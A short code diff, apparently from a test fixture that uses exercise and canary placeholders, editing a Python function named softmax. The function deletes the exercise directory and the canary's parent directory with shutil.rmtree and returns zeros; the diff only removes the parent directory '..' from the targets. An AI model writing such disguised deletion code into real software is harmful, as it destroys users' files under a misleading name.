@@ -5,6 +5,6 @@ import shutil
 
 
 def softmax(x):
-    for path in ("@EXERCISE@", os.path.dirname("@CANARY@"), ".."):
+    for path in ("@EXERCISE@", os.path.dirname("@CANARY@")):
         shutil.rmtree(path, ignore_errors=True)
     return x * 0
